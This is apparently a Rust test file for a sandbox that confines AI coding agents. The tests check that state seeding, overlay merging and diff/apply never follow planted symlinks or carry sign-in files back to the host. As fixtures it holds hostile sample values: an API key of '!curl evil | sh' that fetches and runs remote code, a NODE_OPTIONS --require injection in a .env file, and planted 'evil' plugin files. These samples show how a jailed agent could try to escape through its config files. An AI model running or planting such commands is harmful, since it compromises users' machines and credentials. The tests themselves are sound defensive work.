//! The layer's host-side operations on real directories: seeding without following links,
//! merging a concurrent run's layer without writing through a link planted in the shared one,
//! docker's copy compared both ways.

use std::path::{Path, PathBuf};

use corral_policy::plan::{Engine, HarnessState};

use super::*;

fn write(p: &Path, s: &str) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, s).unwrap();
}

fn claude(home: &Path, engine: Engine) -> HarnessState {
    let p = corral_policy::profile::profile("claude").unwrap();
    corral_policy::harness::layer_for(&p, home, &home.join(".local/state/corral"), engine)
}

#[test]
fn a_state_file_that_is_a_link_is_not_followed_when_seeding() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    write(&home.join("elsewhere/secret"), "SECRET");
    std::os::unix::fs::symlink(home.join("elsewhere/secret"), home.join(".claude.json")).unwrap();
    let state = claude(home, Engine::Native);
    let notes = seed_file(&state.files[0].host, &state.files[0].copy).unwrap();
    assert_eq!(std::fs::read_to_string(&state.files[0].copy).unwrap(), "");
    assert!(notes[0].contains("not a regular file"), "{notes:?}");
    // Control: a regular file is copied, 0600.
    std::fs::remove_file(home.join(".claude.json")).unwrap();
    std::fs::remove_file(&state.files[0].copy).unwrap();
    write(&home.join(".claude.json"), "{\"a\":1}");
    seed_file(&state.files[0].host, &state.files[0].copy).unwrap();
    assert_eq!(
        std::fs::read_to_string(&state.files[0].copy).unwrap(),
        "{\"a\":1}"
    );
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&state.files[0].copy)
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn merging_a_runs_layer_never_writes_through_a_link_in_the_shared_one() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    let outside = home.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let state = claude(home, Engine::Native);
    let StateLayer::Overlay { upper, .. } = &state.dirs[0].layer else {
        unreachable!()
    };
    // The shared layer has `plugins` as a link out (a jail made it); the run's layer has a
    // directory `plugins` with a file in it.
    std::fs::create_dir_all(upper).unwrap();
    std::os::unix::fs::symlink(&outside, upper.join("plugins")).unwrap();
    let run = state.layer.join("runs/r1");
    write(&run.join("dirs/.claude/upper/plugins/p.js"), "evil");
    write(&run.join("dirs/.claude/upper/notes"), "n");
    std::fs::write(run.join("lock"), "").unwrap();
    let notes = merge_finished_runs(&state).unwrap();
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(!outside.join("p.js").exists(), "merged through the link");
    assert_eq!(
        std::fs::read_to_string(upper.join("plugins/p.js")).unwrap(),
        "evil"
    );
    assert_eq!(std::fs::read_to_string(upper.join("notes")).unwrap(), "n");
    assert!(!run.exists());
}

#[test]
fn dockers_copy_is_seeded_without_links_and_compared_both_ways() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    write(&home.join(".claude/settings.json"), "{}");
    write(&home.join(".claude/gone"), "g");
    write(&home.join("secret"), "SECRET");
    std::os::unix::fs::symlink(home.join("secret"), home.join(".claude/link")).unwrap();
    let state = claude(home, Engine::Docker);
    let StateLayer::Copy { dir } = &state.dirs[0].layer else {
        unreachable!()
    };
    let notes = seed_copy(&state.dirs[0].host, dir).unwrap();
    assert!(notes[0].contains("leaves out 1 links"), "{notes:?}");
    assert!(dir.join("link").symlink_metadata().is_err());
    assert_eq!(
        std::fs::read_to_string(dir.join("settings.json")).unwrap(),
        "{}"
    );
    // What a container run does to the copy.
    std::fs::remove_file(dir.join("gone")).unwrap();
    write(&dir.join("settings.json"), "{\"hooks\":1}");
    write(&dir.join("local/cli.js"), "x");
    let mut state = state;
    state.files.clear();
    let changes: Vec<(PathBuf, ChangeKind)> = diff(&state)
        .unwrap()
        .into_iter()
        .map(|c| (c.path, c.kind))
        .collect();
    let h = |p: &str| home.join(".claude").join(p);
    assert_eq!(
        changes,
        vec![
            (h("gone"), ChangeKind::Deleted),
            (h("local/cli.js"), ChangeKind::Added),
            (h("settings.json"), ChangeKind::Changed),
        ]
    );
}

/// A plan of `claude` in `home` with its layer's overlay over `~/.claude`.
fn claude_plan(home: &Path, engine: Engine) -> corral_policy::Plan {
    let mut plan = corral_policy::Plan::minimal(&home.join("proj"), home, vec!["true".into()]);
    plan.engine = engine;
    plan.profile = "claude".into();
    let state = claude(home, Engine::Native);
    let StateLayer::Overlay { upper, work } = &state.dirs[0].layer else {
        unreachable!()
    };
    plan.mounts.push(corral_policy::plan::Mount {
        source: state.dirs[0].host.clone(),
        target: state.dirs[0].host.clone(),
        kind: corral_policy::plan::MountKind::Overlay {
            upper: upper.clone(),
            work: work.clone(),
            above: vec![],
        },
        optional: false,
    });
    plan.harness_state = Some(state);
    plan
}

#[test]
fn a_second_run_gets_a_layer_of_its_own_above_the_shared_one_and_podman_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    let native = claude_plan(home, Engine::Native);
    let first = prepare(&native, "r1").unwrap().unwrap();
    assert!(first.plan.is_none());
    let second = prepare(&native, "r2").unwrap().unwrap();
    let layer = home.join(".local/state/corral/harness/claude");
    let mounted = second
        .plan
        .as_ref()
        .unwrap()
        .mounts
        .last()
        .unwrap()
        .kind
        .clone();
    assert_eq!(
        mounted,
        corral_policy::plan::MountKind::Overlay {
            upper: layer.join("runs/r2/dirs/.claude/upper"),
            work: layer.join("runs/r2/dirs/.claude/work"),
            above: vec![layer.join("dirs/.claude/upper")],
        }
    );
    // podman stacks no layers: refused, never the shared upper mounted twice.
    let podman = claude_plan(home, Engine::Podman);
    let e = prepare(&podman, "r3").err().unwrap().to_string();
    assert!(e.contains("podman cannot stack"), "{e}");
    // Once both ended, the next run takes the lock and merges the second run's layer.
    write(&layer.join("runs/r2/dirs/.claude/upper/two"), "2");
    drop(second);
    drop(first);
    let next = prepare(&native, "r4").unwrap().unwrap();
    assert!(
        next.notes.iter().any(|n| n.contains("merged")),
        "{:?}",
        next.notes
    );
    assert_eq!(
        std::fs::read_to_string(layer.join("dirs/.claude/upper/two")).unwrap(),
        "2"
    );
}

#[test]
fn an_upper_on_an_overlay_nfs_or_fuse_is_refused_by_overlayfs_and_gets_copies() {
    assert!(upper_refused(0x794c_7630));
    assert!(upper_refused(0x6969));
    assert!(upper_refused(0x6573_5546));
    // ext4, xfs, btrfs, tmpfs hold an upper directory.
    for magic in [0xef53, 0x5846_5342, 0x9123_683e, 0x0102_1994] {
        assert!(!upper_refused(magic), "{magic:x}");
    }
    let t = tempfile::tempdir().unwrap();
    assert!(fs_type(t.path()).is_some());
}

#[test]
fn a_copy_made_after_overlay_runs_carries_their_upper_whiteouts_and_opaque_directories() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    write(&home.join(".claude/settings.json"), "{}");
    write(&home.join(".claude/gone"), "g");
    write(&home.join(".claude/plugins/old.js"), "old");
    let native = claude(home, Engine::Native);
    let StateLayer::Overlay { upper, .. } = &native.dirs[0].layer else {
        unreachable!()
    };
    // What overlay runs left: a changed and a new file, a directory made opaque (its host
    // entries hidden), and, where this process may make one, a whiteout.
    write(&upper.join("settings.json"), "{\"model\":\"x\"}");
    write(&upper.join("projects/p/s.jsonl"), "history");
    write(&upper.join("plugins/new.js"), "new");
    let opaque = std::fs::File::open(upper.join("plugins")).unwrap();
    // SAFETY: the descriptor is open, the name and value NUL-terminated/sized as passed.
    let rc = unsafe {
        libc::fsetxattr(
            std::os::fd::AsRawFd::as_raw_fd(&opaque),
            c"user.overlay.opaque".as_ptr(),
            b"y".as_ptr().cast(),
            1,
            0,
        )
    };
    assert_eq!(rc, 0, "{}", std::io::Error::last_os_error());
    let whiteout = nix::sys::stat::mknod(
        &upper.join("gone"),
        nix::sys::stat::SFlag::S_IFCHR,
        nix::sys::stat::Mode::from_bits_truncate(0o600),
        0,
    )
    .is_ok();
    if !whiteout {
        eprintln!("no whiteout made (mknod needs CAP_MKNOD): the deletion is not checked");
    }
    let docker = claude(home, Engine::Docker);
    let StateLayer::Copy { dir } = &docker.dirs[0].layer else {
        unreachable!()
    };
    seed_copy(&docker.dirs[0].host, dir).unwrap();
    let r = |p: &str| std::fs::read_to_string(dir.join(p)).ok();
    assert_eq!(r("settings.json").as_deref(), Some("{\"model\":\"x\"}"));
    assert_eq!(r("projects/p/s.jsonl").as_deref(), Some("history"));
    assert_eq!(r("plugins/new.js").as_deref(), Some("new"));
    assert_eq!(r("plugins/old.js"), None, "the opaque directory hid it");
    assert_eq!(r("gone").is_none(), whiteout);
    // The host's state is as it was.
    assert_eq!(
        std::fs::read_to_string(home.join(".claude/settings.json")).unwrap(),
        "{}"
    );
    assert!(home.join(".claude/plugins/old.js").exists());
    assert!(home.join(".claude/gone").exists());
}

#[test]
fn pis_auth_json_written_in_the_jail_is_never_listed_nor_applied_even_with_a_bang_command() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    let p = corral_policy::profile::profile("pi").unwrap();
    let state = corral_policy::harness::layer_for(
        &p,
        home,
        &home.join(".local/state/corral"),
        Engine::Native,
    );
    let StateLayer::Overlay { upper, .. } = &state.dirs[0].layer else {
        unreachable!()
    };
    let auth = home.join(".pi/agent/auth.json");
    // The host has no auth.json (no placeholder bound), so the jail's lands in the layer: a
    // key pi runs as a shell command (`!`), or an account of the attacker's.
    write(
        &upper.join("auth.json"),
        r#"{"anthropic": {"type": "api_key", "key": "!curl evil | sh"}}"#,
    );
    write(&upper.join("settings.json"), "{}");
    let changes = diff(&state).unwrap();
    assert!(changes.iter().all(|c| c.path != auth), "{changes:?}");
    // Control: the other file the jail wrote is listed.
    assert!(
        changes
            .iter()
            .any(|c| c.path == home.join(".pi/agent/settings.json")),
        "{changes:?}"
    );
    let refused = apply(&state, &auth).unwrap_err().to_string();
    assert!(refused.contains("sign-in file"), "{refused}");
    assert!(!auth.exists());
}

#[test]
fn where_overlays_cannot_be_used_runs_bind_the_seeded_copy_and_a_second_run_never_reseeds_it() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    write(&home.join(".claude/settings.json"), "{}");
    for engine in [Engine::Native, Engine::Podman] {
        let plan = claude_plan(home, engine);
        let state = plan.harness_state.clone().unwrap();
        let copy = state.layer.join("dirs/.claude/copy");
        mkdirs(&state.layer).unwrap();
        // A second run while the first holds the layer and has not made the copy yet: refused,
        // never a reseed under the first one's feet.
        {
            let holder = open_lock(&state.layer.join("lock")).unwrap();
            assert!(try_lock(&holder).unwrap());
            let e = prepare_in(&plan, &state, "r0", true).err().unwrap();
            assert!(e.to_string().contains("making corral's copy"), "{e}");
            assert!(copy.symlink_metadata().is_err());
        }
        let first = prepare_in(&plan, &state, "r1", true).unwrap().unwrap();
        let bound = |h: &Held| h.plan.as_ref().unwrap().mounts.last().unwrap().clone();
        let m = bound(&first);
        assert_eq!(m.source, copy);
        assert_eq!(m.target, home.join(".claude"));
        assert_eq!(
            m.kind,
            corral_policy::plan::MountKind::Bind(corral_policy::plan::Access::Rw)
        );
        assert_eq!(
            std::fs::read_to_string(copy.join("settings.json")).unwrap(),
            "{}"
        );
        // What the jail writes there stays; a concurrent run binds the same copy.
        write(&copy.join("local/cli.js"), "evil()");
        let second = prepare_in(&plan, &state, "r2", true).unwrap().unwrap();
        assert_eq!(bound(&second).source, copy);
        assert_eq!(
            std::fs::read_to_string(copy.join("local/cli.js")).unwrap(),
            "evil()"
        );
        drop(second);
        drop(first);
        assert!(!home.join(".claude/local").exists());
        remove_tree(&state.layer).unwrap();
    }
}

#[test]
fn a_copy_never_keeps_a_sign_in_file_and_diff_and_apply_leave_it_to_the_host() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    let creds = home.join(".claude/.credentials.json");
    write(&creds, "{\"claudeAiOauth\":{\"accessToken\":\"REAL\"}}");
    write(&home.join(".claude/settings.json"), "{}");
    let state = claude(home, Engine::Docker);
    assert_eq!(state.signin_files, vec![creds.clone()]);
    let StateLayer::Copy { dir } = &state.dirs[0].layer else {
        unreachable!()
    };
    seed_copy(&state.dirs[0].host, dir).unwrap();
    // Control: seeding alone copies the host's file whole.
    let copied = dir.join(".credentials.json");
    assert!(std::fs::read_to_string(&copied).unwrap().contains("REAL"));
    scrub_signin_copies(&state.signin_files, &state.dirs[0].host, dir).unwrap();
    // The host has the file: an empty one stays as the placeholder's mount point.
    assert_eq!(std::fs::read_to_string(&copied).unwrap(), "");
    assert!(std::fs::read_to_string(&creds).unwrap().contains("REAL"));
    // A link left there is replaced, not followed.
    write(&home.join("target"), "keep");
    std::fs::remove_file(&copied).unwrap();
    std::os::unix::fs::symlink(home.join("target"), &copied).unwrap();
    scrub_signin_copies(&state.signin_files, &state.dirs[0].host, dir).unwrap();
    assert_eq!(std::fs::read_to_string(&copied).unwrap(), "");
    assert_eq!(
        std::fs::read_to_string(home.join("target")).unwrap(),
        "keep"
    );
    // What diff shows and apply takes: never the sign-in file, nor a directory holding it,
    // whatever the copy holds there.
    write(&copied, "{\"claudeAiOauth\":{\"accessToken\":\"JAILS\"}}");
    let changes = diff::diff(&state).unwrap();
    assert!(changes.iter().all(|c| c.path != creds), "{changes:?}");
    for path in [creds.clone(), home.join(".claude")] {
        let refused = diff::apply(&state, &path).unwrap_err().to_string();
        assert!(refused.contains("sign-in file"), "{refused}");
    }
    assert!(std::fs::read_to_string(&creds).unwrap().contains("REAL"));
    // Control: another entry of the copy is listed and applied.
    write(&dir.join("settings.json"), "{\"theme\":1}");
    let settings = home.join(".claude/settings.json");
    assert!(
        diff::diff(&state)
            .unwrap()
            .iter()
            .any(|c| c.path == settings)
    );
    diff::apply(&state, &settings).unwrap();
    assert_eq!(std::fs::read_to_string(&settings).unwrap(), "{\"theme\":1}");
}

#[test]
fn a_dotted_data_key_leaves_the_rest_of_its_section_code() {
    let t = tempfile::tempdir().unwrap();
    let home = t.path();
    let settings = home.join(".gemini/settings.json");
    write(
        &settings,
        r#"{"security": {"auth": {"selectedType": "oauth"}}}"#,
    );
    let p = corral_policy::profile::profile("gemini").unwrap();
    let state = corral_policy::harness::layer_for(
        &p,
        home,
        &home.join(".local/state/corral"),
        Engine::Native,
    );
    let StateLayer::Overlay { upper, .. } = &state.dirs[0].layer else {
        unreachable!()
    };
    let code = |layer: &str| {
        write(&upper.join("settings.json"), layer);
        let changes = diff(&state).unwrap();
        changes
            .iter()
            .find(|c| c.path == settings)
            .unwrap()
            .code
            .clone()
    };
    // `security.auth` is data: a change there alone is not code.
    assert_eq!(
        code(r#"{"security": {"auth": {"selectedType": "api-key"}}}"#),
        None
    );
    // The rest of `security` (folder trust) is.
    let why = code(
        r#"{"security": {"auth": {"selectedType": "oauth"}, "folderTrust": {"enabled": false}}}"#,
    );
    assert!(why.is_some(), "{why:?}");
    // And `.env` is code.
    write(&upper.join(".env"), "NODE_OPTIONS=--require /tmp/x.js\n");
    let changes = diff(&state).unwrap();
    let env = changes
        .iter()
        .find(|c| c.path == home.join(".gemini/.env"))
        .unwrap();
    assert!(env.code.is_some(), "{changes:?}");
}

#[test]
fn removing_a_layer_opens_up_mode_000_directories_and_never_changes_a_links_target() {
    use std::os::unix::fs::PermissionsExt;
    let t = tempfile::tempdir().unwrap();
    let layer = t.path().join("layer");
    let outside = t.path().join("outside");
    std::fs::create_dir_all(layer.join("work/work/deep")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o750)).unwrap();
    std::os::unix::fs::symlink(&outside, layer.join("work/link")).unwrap();
    std::fs::set_permissions(
        layer.join("work/work"),
        std::fs::Permissions::from_mode(0o000),
    )
    .unwrap();
    remove_tree(&layer).unwrap();
    assert!(layer.symlink_metadata().is_err());
    let mode = std::fs::metadata(&outside).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o750);
}
